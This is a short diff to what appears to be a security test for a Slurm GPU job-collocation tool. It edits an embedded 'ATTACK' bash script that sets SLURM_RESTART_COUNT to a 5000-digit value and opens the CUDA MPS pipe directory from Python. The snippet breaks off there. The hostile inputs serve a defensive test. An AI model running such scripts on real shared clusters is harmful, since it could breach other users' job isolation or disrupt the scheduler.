@@ -24,7 +24,7 @@ from slurm_colloc.slurm.adapter import SlurmCli, job_state
 
 ATTACK = r"""#!/bin/bash
 export SLURM_RESTART_COUNT=$(printf '7%.0s' $(seq 5000))
-PY="$(dirname "$(command -v colloc-simjob)")/python"
+PY="$(dirname "$(command -v colloc)")/python"
 "$PY" - "$CUDA_MPS_PIPE_DIRECTORY" <<'EOF'
 import os, sys
 fd = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)
